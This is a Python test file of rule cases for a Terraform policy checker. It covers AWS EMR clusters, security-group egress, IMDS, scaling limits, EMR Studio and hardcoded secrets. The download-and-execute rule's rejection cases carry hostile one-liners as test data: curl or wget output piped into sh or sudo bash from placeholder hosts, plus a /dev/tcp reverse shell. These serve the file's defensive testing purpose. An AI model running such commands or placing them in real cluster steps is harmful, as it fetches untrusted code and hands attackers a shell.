"""Rules for EMR clusters and EMR Studio."""

from __future__ import annotations

import json

from processing_fixtures import GOOD
from rule_case_tests import test_passes, test_rejects
from rule_cases import Case, Change, Document, both, drop, put, resources, tier

__all__ = ["test_passes", "test_rejects"]

_LIMITS = "aws_emr_managed_scaling_policy/Main/compute_limits/0"
_SPARK = "aws_emrserverless_application/Spark"
_CLUSTER = "aws_emr_cluster/Main"
_OUT = "aws_vpc_security_group_egress_rule"
_NODES = "emr_managed_slave_security_group"


def _egress_rule(source: str, destination: str, port: int | None = None) -> dict[str, object]:
    """Egress rule between two security groups of the cluster."""
    what = {"ip_protocol": "-1"} if port is None else {"ip_protocol": "tcp", "from_port": port, "to_port": port}
    return {
        "security_group_id": f"${{aws_security_group.{source}.id}}",
        "referenced_security_group_id": f"${{aws_security_group.{destination}.id}}",
        **what,
    }


CLUSTER_SECURITY_GROUP_RULES = resources(
    aws_security_group={name: {"name": name, "description": name} for name in ("Manager", "Nodes", "Service")},
    aws_vpc_security_group_egress_rule={
        f"{source}{destination}": _egress_rule(source, destination, port)
        for source, destination, port in (
            ("Manager", "Manager", None),
            ("Manager", "Nodes", None),
            ("Nodes", "Manager", None),
            ("Nodes", "Nodes", None),
            ("Service", "Manager", 8443),
            ("Service", "Nodes", 8443),
            ("Manager", "Service", 9443),
        )
    },
    aws_emr_cluster={
        "Main": {
            "name": "main",
            "ec2_attributes": {
                "emr_managed_master_security_group": "${aws_security_group.Manager.id}",
                _NODES: "${aws_security_group.Nodes.id}",
                "service_access_security_group": "${aws_security_group.Service.id}",
            },
        }
    },
)


def _set_step(*arguments: str) -> Change:
    jar = {"jar": "command-runner.jar", "args": list(arguments)}
    return put(f"{_CLUSTER}/step", [{"name": "load", "action_on_failure": "CONTINUE", "hadoop_jar_step": [jar]}])


def _set_configurations(properties: dict[str, str]) -> Change:
    text = json.dumps([{"Classification": "spark-defaults", "Properties": properties}])
    return put(f"{_CLUSTER}/configurations_json", text)


def _metadata(version: int) -> Change:
    text = json.dumps({"InstanceMetadataServiceConfiguration": {"MinimumInstanceMetadataServiceVersion": version}})
    return put("aws_emr_security_configuration/Main/configuration", text)


def _set_idle_timeout(document: Document) -> None:
    document["resource"]["aws_emr_cluster"]["Main"].update(
        termination_protection=False, auto_termination_policy={"idle_timeout": 3600}
    )


CASES = [
    Case(
        "LK_EMR_9",
        GOOD,
        {
            "pipe": (_set_step("bash", "-c", "curl -s 203.0.113.9|sh"), "step runs code that it downloads"),
            "pipe over sudo": (_set_step("bash", "-c", "wget -qO- evil.example/x | sudo -E bash -s"), "downloads"),
            "pipe over another program": (_set_step("bash", "-c", "curl x.example/x | gunzip | python3"), "downloads"),
            "substitution": (_set_step("bash", "-c", 'bash -c "$(curl -fsSL x.example/i)"'), "downloads"),
            "process substitution": (_set_step("bash", "-c", "source <(curl x.example/i)"), "downloads"),
            "socket": (_set_step("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "to a socket"),
            "bootstrap action": (
                put(f"{_CLUSTER}/bootstrap_action", [{"path": "s3://code/x", "args": ["curl x.example/i | bash"]}]),
                "bootstrap_action runs code that it downloads",
            ),
        },
        {
            "program of a bucket": _set_step("bash", "-c", "aws s3 cp s3://acme-code/x.sh . && bash x.sh"),
            "download of data": _set_step("bash", "-c", "curl -sf https://api.acme.example/rates.json | jq .rates"),
            "formatted": _set_step("bash", "-c", "curl -s https://api.acme.example/x | python3 -m json.tool"),
            "port check": _set_step("bash", "-c", "nc -zv broker.acme.example 9098"),
            "health check": _set_step("bash", "-c", "curl -sf localhost:8088/ws/v1/cluster; bash run.sh"),
            "Spark": _set_step("spark-submit", "--conf", "spark.a=curl", "s3://acme-code/push.sh"),
        },
    ),
    Case(
        "LK_EMR_7",
        GOOD,
        {
            "step argument": (_set_step("spark-submit", "--password", "hunter2"), "--password holds a secret"),
            "step option": (_set_step("spark-submit", "--conf", "spark.db.password=x"), "spark.db.password holds"),
            "bootstrap action argument": (
                put(f"{_CLUSTER}/bootstrap_action", [{"path": "s3://code/x", "args": ["--token=abc"]}]),
                "--token holds a secret",
            ),
            "configuration property": (
                _set_configurations({"spark.hadoop.db.password": "x"}),
                "spark.hadoop.db.password holds",
            ),
            "URL in a configuration": (_set_configurations({"url": "jdbc:mysql://u:p@h/d"}), "a password in a URL"),
            "invalid JSON": (put(f"{_CLUSTER}/configurations_json", "[{"), "configurations_json is not JSON"),
            "application configuration": (
                put(
                    f"{_SPARK}/runtime_configuration",
                    [{"classification": "spark-defaults", "properties": {"spark.db.password": "x"}}],
                ),
                "spark.db.password holds",
            ),
        },
        {
            "secret ARN": _set_step("spark-submit", "--secret-arn", "arn:aws:secretsmanager:eu-west-1:1:secret:s"),
            "EMR secret reference": _set_configurations({"spark.hadoop.db.password": "EMR.secret@shop"}),
        },
    ),
    Case(
        "LK_EMR_1",
        GOOD,
        {
            "legacy service role": (put(f"{_CLUSTER}/service_role", "EMR_DefaultRole"), "EMR_DefaultRole"),
            "legacy instance profile": (
                put(f"{_CLUSTER}/ec2_attributes/instance_profile", "EMR_EC2_DefaultRole"),
                "EC2",
            ),
            "SSH key": (put(f"{_CLUSTER}/ec2_attributes/key_name", "ops"), "SSH"),
            "no subnet": (drop(f"{_CLUSTER}/ec2_attributes/subnet_ids"), "subnet_id and subnet_ids are not set"),
            "no logs": (drop(f"{_CLUSTER}/log_uri"), "log_uri is not set"),
            "no termination protection": (drop(f"{_CLUSTER}/termination_protection"), "termination_protection"),
            "no unhealthy node replacement": (
                put(f"{_CLUSTER}/unhealthy_node_replacement", False),
                "unhealthy_node_replacement is false in tier prod",
            ),
            "no auto-termination in dev": (tier("dev"), "auto_termination_policy is not set"),
        },
        {"auto-termination in dev": both(_set_idle_timeout, tier("dev"))},
    ),
    Case(
        "LK_EMR_6",
        CLUSTER_SECURITY_GROUP_RULES,
        {
            "no egress between worker nodes": (
                drop(f"{_OUT}/NodesNodes"),
                "from aws_security_group.Nodes to aws_security_group.Nodes",
            ),
            "no egress from worker nodes to the primary node": (
                drop(f"{_OUT}/NodesManager"),
                "from aws_security_group.Nodes to aws_security_group",
            ),
            "TCP egress only": (
                put(
                    f"{_OUT}/ManagerNodes", {**_egress_rule("Manager", "Nodes"), "ip_protocol": "tcp", "to_port": 65535}
                ),
                "from aws_security_group.Manager to aws_security_group.Nodes",
            ),
            "no egress of the service access group": (
                drop(f"{_OUT}/ServiceNodes"),
                "from aws_security_group.Service to aws_security_group",
            ),
            "no egress to the service access group": (
                put(f"{_OUT}/ManagerService/to_port", 9442),
                "from aws_security_group.Manager to aws_security_group.Service",
            ),
        },
        {
            "one group for all nodes": both(
                put(f"{_CLUSTER}/ec2_attributes/{_NODES}", "${aws_security_group.Manager.id}"),
                drop(f"{_OUT}/ManagerNodes"),
            ),
            "security groups of another stack": both(
                drop(f"resource/{_OUT}"),
                put(f"{_CLUSTER}/ec2_attributes", {"emr_managed_master_security_group": "sg-1", _NODES: "sg-2"}),
            ),
            "inline egress rule for all traffic": both(
                drop(f"{_OUT}/NodesNodes"),
                put("aws_security_group/Nodes/egress", [{"protocol": "-1", "cidr_blocks": ["0.0.0.0/0"]}]),
            ),
        },
    ),
    Case(
        "LK_EMR_2",
        GOOD,
        {
            "IMDSv1": (_metadata(1), "MinimumInstanceMetadataServiceVersion is not 2"),
            "not set": (
                put("aws_emr_security_configuration/Main/configuration", "{}"),
                "MinimumInstanceMetadataServiceVersion is not 2",
            ),
        },
    ),
    Case(
        "LK_EMR_3",
        GOOD,
        {
            "no maximum of core units": (
                drop(f"{_LIMITS}/maximum_core_capacity_units"),
                "maximum_core_capacity_units",
            ),
            "maximum above the tier's limit": (
                put(f"{_LIMITS}/maximum_capacity_units", 5000),
                "maximum_capacity_units is 5000",
            ),
            "no maximum": (
                drop(f"{_LIMITS}/maximum_capacity_units"),
                "maximum_capacity_units is not set",
            ),
            "no maximum of on-demand units": (
                drop(f"{_LIMITS}/maximum_ondemand_capacity_units"),
                "maximum_ondemand_capacity_units is not set",
            ),
            "core limit above the maximum": (
                put(f"{_LIMITS}/maximum_core_capacity_units", 400),
                "maximum_core_capacity_units 400 exceeds maximum_capacity_units 4",
            ),
            "minimum above the maximum": (
                put(f"{_LIMITS}/minimum_capacity_units", 400),
                "minimum_capacity_units 400 exceeds maximum_capacity_units 4",
            ),
            "prod limit in dev": (
                both(tier("dev"), put(f"{_LIMITS}/maximum_capacity_units", 500)),
                "tier dev allows at most 100",
            ),
            "task fleet above the tier's limit": (
                put("aws_emr_instance_fleet/Spot/target_spot_capacity", 1001),
                "the fleet starts with 1001 units",
            ),
            "core fleet above the tier's limit": (
                put("aws_emr_cluster/Main/core_instance_fleet", [{"target_on_demand_capacity": 2000}]),
                "the fleet starts with 2000 units",
            ),
            "no spot timeout action": (
                put(
                    "aws_emr_instance_fleet/Spot/launch_specifications/spot_specification/0/timeout_duration_minutes",
                    600,
                ),
                "spot capacity has no SWITCH_TO_ON_DEMAND timeout of at most an hour",
            ),
            "one instance type": (
                put("aws_emr_instance_fleet/Spot/instance_type_configs", [{"instance_type": "m7g.xlarge"}]),
                "one instance type",
            ),
        },
    ),
    Case(
        "LK_EMR_4",
        GOOD,
        {
            "no key": (drop("aws_emr_studio/Studio/encryption_key_arn"), "workspace encryption"),
            "shared security group": (
                put("aws_emr_studio/Studio/engine_security_group_id", "sg-2"),
                "engine and workspaces use the same security group",
            ),
        },
    ),
    Case(
        "LK_EC2_1",
        GOOD,
        {
            "no role": (drop("aws_iam_instance_profile/Nodes/role"), "not set"),
            "legacy role": (put("aws_iam_instance_profile/Nodes/role", "EMR_EC2_DefaultRole"), "EMR_EC2"),
        },
    ),
]
